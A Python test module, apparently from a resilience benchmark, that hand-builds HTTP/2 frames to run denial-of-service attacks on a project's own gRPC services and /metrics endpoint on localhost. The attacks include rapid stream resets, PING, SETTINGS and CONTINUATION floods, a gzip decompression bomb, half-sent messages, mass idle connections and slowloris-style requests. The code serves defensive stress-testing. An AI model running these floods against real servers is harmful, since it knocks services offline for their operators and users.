"""Attacks on connections: HTTP/2 frames by hand, idle connections, and slow clients of /metrics."""

import re
import resource
import select
import socket
import struct
import time
import zlib
from contextlib import ExitStack
from functools import partial

from bench.hostile.attacker import Attack, Attacker, run_together
from bench.hostile.messages import EXTRACT_CLIP, RECOGNIZE
from signet.rpc.limits import MAX_MESSAGE_BYTES

_HOST = "127.0.0.1"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_FRAME = 16_384
_BOMB_BYTES = 512 << 20


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _string(text: str) -> bytes:
    """A string literal of HPACK (RFC 7541, 5.2)."""
    data, length = text.encode(), len(text.encode())
    if length < 127:
        return bytes([length]) + data
    prefix, length = b"\x7f", length - 127
    while length >= 128:
        prefix, length = prefix + bytes([length % 128 + 128]), length // 128
    return prefix + bytes([length]) + data


def _header_block(path: str, **more: str) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": _HOST, "te": "trailers"}
    fields |= {"content-type": "application/grpc"} | {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(b"\x00" + _string(name) + _string(value) for name, value in fields.items())


class _Connection:
    """An HTTP/2 connection without a library. It honours the server's windows and answers its pings."""

    def __init__(self, address: str) -> None:
        host, port = address.split(":")
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.outcome = ""  # the last status, or how the server ended the connection
        self._window = 65_535
        self._stream_windows: dict[int, int] = {}
        self._initial = 65_535
        self._received = b""
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))

    def send(self, data: bytes) -> None:
        """Send; an end of the connection is noted in `outcome`."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.outcome = self.outcome or "closed"

    def send_data(self, data: memoryview, stream: int) -> int:
        """Send as much as the windows allow; the number of bytes."""
        window = min(self._window, self._stream_windows.setdefault(stream, self._initial), _FRAME, len(data))
        if window > 0:
            self.send(_frame(_DATA, 0, stream, bytes(data[:window])))
            self._window -= window
            self._stream_windows[stream] -= window
        return max(0, window)

    def receive(self, seconds: float) -> None:
        """Handle what the server has sent; wait at most this long for it."""
        if self.outcome in ("closed", "reset") or not select.select([self.socket], [], [], seconds)[0]:
            return
        try:
            data = self.socket.recv(1 << 16)
        except OSError:
            self.outcome = self.outcome or "reset"
            return
        if not data:
            self.outcome = self.outcome or "closed"
            return
        self._received += data
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + length:
                return
            self._handle(self._received[: 9 + length])
            self._received = self._received[9 + length :]

    def _handle(self, frame: bytes) -> None:
        kind, flags, stream, payload = frame[3], frame[4], int.from_bytes(frame[5:9], "big"), frame[9:]
        if kind == _SETTINGS and not flags & _ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == 4:  # SETTINGS_INITIAL_WINDOW_SIZE
                    for known in self._stream_windows:
                        self._stream_windows[known] += value - self._initial
                    self._initial = value
            self.send(_frame(_SETTINGS, _ACK, 0))
        elif kind == _PING and not flags & _ACK:
            self.send(_frame(_PING, _ACK, 0, payload))
        elif kind == _WINDOW and stream:
            self._stream_windows[stream] = self._stream_windows.get(stream, self._initial) + int.from_bytes(payload)
        elif kind == _WINDOW:
            self._window += int.from_bytes(payload)
        elif kind == _GOAWAY:
            self.outcome = "GOAWAY"
        elif kind == _RST:
            self.outcome = self.outcome or "RST_STREAM"
        elif kind == _HEADERS and (status := re.search(rb"grpc-status[\x01\x02](\d+)", payload)):
            self.outcome = f"status {status.group(1).decode()}"


def _half_sent_tensors(attacker: Attacker) -> None:
    _half_sent(attacker, "evaluator", RECOGNIZE)


def _half_sent_videos(attacker: Attacker) -> None:
    _half_sent(attacker, "extractor", EXTRACT_CLIP)


def _half_sent(attacker: Attacker, service: str, method: str) -> None:
    message = memoryview(b"\x00" + MAX_MESSAGE_BYTES.to_bytes(4, "big") + bytes(MAX_MESSAGE_BYTES - 1_000_000))

    def hold() -> None:
        connection = _Connection(attacker.target.addresses[service])
        connection.send(_frame(_HEADERS, _END_HEADERS, 1, _header_block(method)))
        sent = 0
        while attacker.seconds_left and not connection.outcome:
            moved = connection.send_data(message[sent:], 1)
            sent += moved
            connection.receive(0 if moved else 0.2)
        attacker.count(connection.outcome or f"held with {round(sent / 1e6, -1):.0f} MB")
        connection.socket.close()

    run_together([hold] * 20)


def _open_calls(attacker: Attacker) -> None:
    block = _header_block(RECOGNIZE)

    def hold() -> None:
        connection = _Connection(attacker.target.addresses["evaluator"])
        for stream in range(1, 4001, 2):
            connection.send(_frame(_HEADERS, _END_HEADERS, stream, block))
            connection.receive(0)
        while attacker.seconds_left and connection.outcome not in ("closed", "reset", "GOAWAY"):
            connection.receive(0.2)
        attacker.count(connection.outcome or "held")
        connection.socket.close()

    run_together([hold] * 10)


def _rapid_resets(attacker: Attacker) -> None:
    block = _header_block(RECOGNIZE)

    def reset() -> None:
        while attacker.seconds_left:
            connection, stream = _Connection(attacker.target.addresses["evaluator"]), 1
            while attacker.seconds_left and connection.outcome not in ("closed", "reset", "GOAWAY"):
                pairs = []
                for _ in range(100):
                    pairs += [_frame(_HEADERS, _END_HEADERS, stream, block), _frame(_RST, 0, stream, b"\0\0\0\x08")]
                    stream += 2
                connection.send(b"".join(pairs))
                connection.receive(0)
                attacker.count("streams", 100)
            attacker.count(connection.outcome or "held")
            connection.socket.close()

    run_together([reset] * 2)


def _floods(attacker: Attacker) -> None:
    """Pings, settings and endless headers, each on connections of their own."""
    ping, settings = _frame(_PING, 0, 0, bytes(8)), _frame(_SETTINGS, 0, 0)
    more = _frame(_CONTINUATION, 0, 1, b"\x00" + _string("x") + _string("y" * 16_000))

    def flood(first: bytes, data: bytes) -> None:
        while attacker.seconds_left:
            connection = _Connection(attacker.target.addresses["evaluator"])
            connection.send(first)
            while attacker.seconds_left and not connection.outcome:
                connection.send(data)
                connection.receive(0)
            attacker.count(connection.outcome or "held")
            connection.socket.close()
            time.sleep(0.01)

    begun = _frame(_HEADERS, 0, 1, _header_block(RECOGNIZE))
    floods = [(b"", ping * 100), (b"", settings * 100), (begun, more)]
    run_together([partial(flood, *each) for each in floods])


def _compressed_bombs(attacker: Attacker) -> None:
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(_BOMB_BYTES >> 20)) + packer.flush()
    attacker.begin()
    message = memoryview(b"\x01" + len(packed).to_bytes(4, "big") + packed)

    def bomb() -> None:
        while attacker.seconds_left:
            connection, sent = _Connection(attacker.target.addresses["evaluator"]), 0
            block = _header_block(RECOGNIZE, grpc_encoding="gzip", grpc_accept_encoding="identity,gzip")
            connection.send(_frame(_HEADERS, _END_HEADERS, 1, block))
            while attacker.seconds_left and not connection.outcome:
                sent += (moved := connection.send_data(message[sent:], 1))
                if moved and sent == len(message):
                    connection.send(_frame(_DATA, _END_STREAM, 1))
                connection.receive(0 if moved else 0.1)
            attacker.count(connection.outcome or "held")
            connection.socket.close()

    run_together([bomb] * 4)


def _hold_connections(attacker: Attacker, port: int, count: int, first: bytes = b"") -> None:
    """Open connections, send the same to each, and leave them open."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    with ExitStack() as held:
        for _ in range(count):
            if not attacker.seconds_left:
                break
            try:
                client = held.enter_context(socket.create_connection((_HOST, port), timeout=1))
                client.sendall(first)
            except OSError as error:
                attacker.count(type(error).__name__)
            else:
                attacker.count("connected")
        time.sleep(attacker.seconds_left)


def _idle_connections(attacker: Attacker) -> None:
    port = int(attacker.target.addresses["evaluator"].split(":")[1])
    _hold_connections(attacker, port, 1100)


def _idle_http2_connections(attacker: Attacker) -> None:
    port = int(attacker.target.addresses["evaluator"].split(":")[1])
    _hold_connections(attacker, port, 1100, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))


def _idle_metrics_connections(attacker: Attacker) -> None:
    _hold_connections(attacker, attacker.target.metrics_ports["evaluator"], 1100)


def _slow_requests(attacker: Attacker) -> None:
    """Requests that never end: a few bytes a second."""
    with ExitStack() as held:
        clients = []
        for _ in range(200):
            if not attacker.seconds_left:
                break
            try:
                address = (_HOST, attacker.target.metrics_ports["evaluator"])
                client = held.enter_context(socket.create_connection(address, timeout=1))
                client.sendall(b"GET /metrics HTTP/1.1\r\nX-Slow: ")
            except OSError as error:
                attacker.count(type(error).__name__)
            else:
                clients.append(client)
        while attacker.seconds_left and clients:
            time.sleep(min(1.0, attacker.seconds_left))
            for client in tuple(clients):
                try:
                    client.sendall(b"x")
                except OSError:
                    attacker.count("closed")
                    clients.remove(client)
        attacker.count("held", len(clients))


def _large_requests(attacker: Attacker) -> None:
    """Endless headers and bodies, and answers that are not read."""

    def send(first: bytes, more: bytes) -> None:
        while attacker.seconds_left:
            try:
                address = (_HOST, attacker.target.metrics_ports["evaluator"])
                with socket.create_connection(address, timeout=1) as client:
                    client.sendall(first)
                    while attacker.seconds_left:
                        client.sendall(more)
            except OSError as error:
                attacker.count(type(error).__name__)
                time.sleep(0.02)

    header = b"GET /metrics HTTP/1.1\r\n"
    body = b"POST /metrics HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n"
    kinds = [(header, b"x: " + b"y" * 60_000 + b"\r\n"), (body, bytes(100_000)), (b"GET /", b"z" * 100_000)]
    run_together([partial(send, *kind) for kind in kinds])


_BOTH = ("Recognize", "/metrics")

ATTACKS = {
    "half-sent-tensors": Attack("20 of the largest messages whose last MB never comes", _half_sent_tensors, seconds=12),
    "half-sent-videos": Attack(
        "the same to the extractor", _half_sent_videos, ("extractor",), ("ExtractClip",), seconds=12
    ),
    "open-calls": Attack("20,000 calls over 10 connections, without a message", _open_calls),
    "rapid-resets": Attack("calls that are cancelled at once, as fast as possible", _rapid_resets),
    "http2-floods": Attack("pings, settings and headers without end", _floods),
    "compressed-bombs": Attack("messages of 2 MB that unpack to 512 MB", _compressed_bombs, seconds=10),
    "idle-connections": Attack("1,100 connections that send nothing", _idle_connections, legitimate=_BOTH),
    "idle-http2-connections": Attack("1,100 HTTP/2 connections without a call", _idle_http2_connections),
    "idle-metrics-connections": Attack(
        "1,100 connections to /metrics that send nothing", _idle_metrics_connections, legitimate=_BOTH
    ),
    "slow-metrics-requests": Attack("200 requests of /metrics that never end", _slow_requests, legitimate=_BOTH),
    "large-metrics-requests": Attack("headers and bodies without end for /metrics", _large_requests, legitimate=_BOTH),
}
